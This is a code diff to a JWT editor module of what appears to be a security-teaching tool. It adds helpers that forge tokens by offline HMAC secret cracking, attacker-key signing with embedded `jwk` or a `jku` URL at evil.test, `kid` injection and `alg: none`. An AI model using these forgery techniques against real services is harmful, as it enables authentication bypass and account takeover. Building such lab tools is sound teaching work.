@@ -1,110 +1,47 @@
 """The JWT editor: read any token, change its header or claims, and make a new token.
 
-Three ways to finish an edited token, as an attacker has them:
+The ways to finish an edited token, as an attacker has them:
 
 - keep the old signature (the server's signature check must catch the edit);
-- sign again with HS256 and a secret the learner knows or guessed (only a server whose
-  secret *is* that word accepts it);
+- sign again with an HMAC secret the learner knows or guessed (`crack_secret` guesses it
+  offline from a word list): only a server whose secret *is* that word accepts it;
+- sign with the attacker's own key pair (RS256, PS256, ES256, EdDSA), optionally with the
+  public key embedded as `jwk` or published at evil.test and named by `jku`: only a server
+  that takes its key from the token accepts it;
 - `alg: none` with an empty signature (only a server that lets the token pick its
   algorithm accepts it).
 
-Signing is hand-written HMAC-SHA256 over `header.payload` (RFC 7515 §5.1, RFC 7518 §3.2)
-rather than `jwt.encode`, because the editor must sign exactly the header the learner
-wrote: PyJWT re-orders and completes headers, and warns about the short keys that the
-weak-secret lesson uses on purpose.
+Decoding and signing live in `tutor.jwtcheck` (shared with `tutor jwt`); this module is
+what the editor does with them, and the one place that chooses whose attacker keys sign
+(`attacker_key`, and `ATTACKER_JWKS_URL` where evil.test publishes them).
 """
 
 from __future__ import annotations
 
-import base64
-import binascii
-import hashlib
-import hmac
-import json
-import re
-from collections.abc import Mapping
-from dataclasses import dataclass
+from collections.abc import Callable, Iterable, Mapping
 from typing import Any
 
-PART_NAMES = ("header", "claims", "signature")
-_BASE64URL = re.compile(r"^[A-Za-z0-9_-]*$")
-MAX_TOKEN_LENGTH = 16_384
+from tutor.jwtcheck import signing
+from tutor.jwtcheck.attacker import ASYMMETRIC_ALGORITHMS, ATTACKER_JWKS_URL, attacker_key
+from tutor.jwtcheck.crack import CrackProgress, HmacTarget
+from tutor.jwtcheck.keys import HMAC_ALGORITHMS
+from tutor.jwtcheck.signing import SIGNING_ALGORITHMS, sign
+from tutor.jwtcheck.token import (
+    MAX_TOKEN_LENGTH,
+    PART_NAMES,
+    DecodedToken,
+    TokenFormatError,
+    decode,
+    encode_part,
+    parse_json_object,
+)
 
-
-class TokenFormatError(ValueError):
-    """The text is not a readable JWT, or an edit is not a JSON object; says where."""
-
-
-@dataclass(frozen=True)
-class DecodedToken:
-    """A JWT read without any key: nothing here is verified."""
-
-    header: dict[str, Any]
-    claims: dict[str, Any]
-    signature: str
-    """The third part as written (base64url text; empty for `alg: none`)."""
-    header_part: str
-    claims_part: str
-
-    @property
-    def token(self) -> str:
-        """The token these parts make."""
-        return f"{self.header_part}.{self.claims_part}.{self.signature}"
-
-    @property
-    def algorithm(self) -> str | None:
-        """What the header claims the algorithm is (the server must not believe it)."""
-        alg = self.header.get("alg")
-        return alg if isinstance(alg, str) else None
-
-
-def decode(token: str) -> DecodedToken:
-    """Read a token's header, claims and signature, or `TokenFormatError` saying why not.
-
-    A leading `Bearer ` and surrounding spaces are forgiven, as they come with a copied
-    Authorization header.
-    """
-    text = token.strip()
-    if text[:7].lower() == "bearer ":
-        text = text[7:].strip()
-    if not text:
-        raise TokenFormatError("there is no token to read: paste one (three parts joined "
-                               "by dots)")
-    if len(text) > MAX_TOKEN_LENGTH:
-        raise TokenFormatError(f"the token is {len(text)} characters long; tokens here are "
-                               f"at most {MAX_TOKEN_LENGTH}")
-    parts = text.split(".")
-    if len(parts) != 3:
-        raise TokenFormatError(f"a JWT has 3 parts (header.claims.signature) joined by dots; "
-                               f"this has {len(parts)}")
-    header = _json_part(parts[0], 0)
-    claims = _json_part(parts[1], 1)
-    _base64url_bytes(parts[2], 2)
-    return DecodedToken(header, claims, parts[2], parts[0], parts[1])
-
-
-def parse_json_object(text: str, what: str) -> dict[str, Any]:
-    """An edited header or claims set: JSON text that must be one object."""
-    try:
-        value = json.loads(text, parse_constant=_refuse_constant)
-    except json.JSONDecodeError as exc:
-        raise TokenFormatError(f"{what}: line {exc.lineno}, column {exc.colno}: {exc.msg}"
-                               ) from None
-    except ValueError as exc:
-        raise TokenFormatError(f"{what}: {exc}") from None
-    if not isinstance(value, dict):
-        raise TokenFormatError(f"{what}: must be a JSON object ({{...}}), not "
-                               f"{type(value).__name__}")
-    return value
-
-
-def encode_part(value: Mapping[str, Any]) -> str:
-    """One JSON object as a compact base64url token part (no padding, RFC 7515 §2)."""
-    try:
-        raw = json.dumps(dict(value), separators=(",", ":"), allow_nan=False).encode()
-    except (TypeError, ValueError) as exc:
-        raise TokenFormatError(f"cannot be written as JSON: {exc}") from None
-    return _b64(raw)
+__all__ = [
+    "ASYMMETRIC_ALGORITHMS", "ATTACKER_JWKS_URL", "MAX_TOKEN_LENGTH", "PART_NAMES",
+    "SIGNING_ALGORITHMS", "DecodedToken", "TokenFormatError", "crack_secret", "decode",
+    "encode_part", "keep_signature", "parse_json_object", "re_sign", "secret_matches",
+    "sign_hs256", "unsigned", "with_attacker_jku", "with_embedded_jwk", "with_kid",
+]
 
 
 def keep_signature(
@@ -120,8 +57,34 @@ def keep_signature(
 
 def sign_hs256(header: Mapping[str, Any], claims: Mapping[str, Any], secret: str) -> str:
     """A token signed with HMAC-SHA256 and `secret`; the header's `alg` becomes HS256."""
-    signing_input = f"{encode_part({**header, 'alg': 'HS256'})}.{encode_part(claims)}"
-    return f"{signing_input}.{_hs256(signing_input, secret)}"
+    return sign(header, claims, "HS256", secret)
+
+
+def re_sign(header: Mapping[str, Any], claims: Mapping[str, Any], alg: str,
+            secret: str | bytes = b"") -> str:
+    """Signed with `alg`: HS* with `secret` (empty is allowed: it is what a `kid` naming an
+    empty file gives), the others with the attacker's own key, its kid in the header."""
+    if alg in HMAC_ALGORITHMS:
+        return sign(header, claims, alg, secret)
+    if alg in ASYMMETRIC_ALGORITHMS:
+        return signing.sign_with(header, claims, attacker_key(alg))
+    raise TokenFormatError(f"cannot sign with {alg!r}; one of {', '.join(SIGNING_ALGORITHMS)}")
+
+
+def with_embedded_jwk(header: Mapping[str, Any], alg: str) -> dict[str, Any]:
+    """The header carrying the attacker's `alg` public key as `jwk`."""
+    return signing.with_embedded_jwk(header, attacker_key(alg))
+
+
+def with_attacker_jku(header: Mapping[str, Any], alg: str) -> dict[str, Any]:
+    """The header pointing `jku` at evil.test's JWK Set, with the kid of the attacker's
+    `alg` key there."""
+    return signing.with_jku(header, attacker_key(alg), ATTACKER_JWKS_URL)
+
+
+def with_kid(header: Mapping[str, Any], kid: str) -> dict[str, Any]:
+    """The header with `kid` set (a path or a row name is what kid injection tries)."""
+    return {**header, "kid": kid}
 
 
 def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
@@ -130,20 +93,17 @@ def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
 
 
 def secret_matches(token: str, secret: str) -> bool:
-    """Whether `secret` made this HS256 token's signature: an offline guess, which no
+    """Whether `secret` made this HMAC token's signature: an offline guess, which no
     server ever sees."""
-    decoded = decode(token)
-    signing_input = f"{decoded.header_part}.{decoded.claims_part}"
-    return hmac.compare_digest(_hs256(signing_input, secret), decoded.signature)
+    return HmacTarget(token).matches(secret.encode("utf-8"))
 
 
-def _hs256(signing_input: str, secret: str) -> str:
-    mac = hmac.new(secret.encode(), signing_input.encode("ascii"), hashlib.sha256)
-    return _b64(mac.digest())
-
-
-def _b64(raw: bytes) -> str:
-    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode("ascii")
+def crack_secret(token: str, words: Iterable[bytes], total: int | None = None,
+                 on_progress: Callable[[CrackProgress], bool] | None = None
+                 ) -> CrackProgress:
+    """Try every word as the token's HMAC secret, offline; the last progress says whether
+    one was found."""
+    return HmacTarget(token).crack(words, total, on_progress)
 
 
 def _part_or_original(edited: Mapping[str, Any] | None, original: dict[str, Any],
@@ -151,35 +111,3 @@ def _part_or_original(edited: Mapping[str, Any] | None, original: dict[str, Any]
     if edited is None or dict(edited) == original:
         return original_part
     return encode_part(edited)
-
-
-def _base64url_bytes(part: str, index: int) -> bytes:
-    name = f"part {index + 1} ({PART_NAMES[index]})"
-    if not _BASE64URL.match(part):
-        bad = next(ch for ch in part if not _BASE64URL.match(ch))
-        hint = " (that is plain base64; JWTs use - and _ instead)" if bad in "+/=" else ""
-        raise TokenFormatError(f"{name} is not base64url: it has {bad!r}{hint}")
-    if len(part) % 4 == 1:
-        raise TokenFormatError(f"{name} is not base64url: its length cannot be decoded "
-                               "(is a character missing?)")
-    try:
-        return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))
-    except (binascii.Error, ValueError):
-        raise TokenFormatError(f"{name} is not base64url") from None
-
-
-def _json_part(part: str, index: int) -> dict[str, Any]:
-    name = f"part {index + 1} ({PART_NAMES[index]})"
-    raw = _base64url_bytes(part, index)
-    try:
-        text = raw.decode("utf-8")
-    except UnicodeDecodeError:
-        raise TokenFormatError(f"{name} decodes to bytes that are not UTF-8 text") from None
-    try:
-        return parse_json_object(text, name)
-    except TokenFormatError as exc:
-        raise TokenFormatError(f"{exc} (decoded text: {text[:60]!r})") from None
-
-
-def _refuse_constant(name: str) -> Any:
-    raise ValueError(f"{name} is not a JSON number")
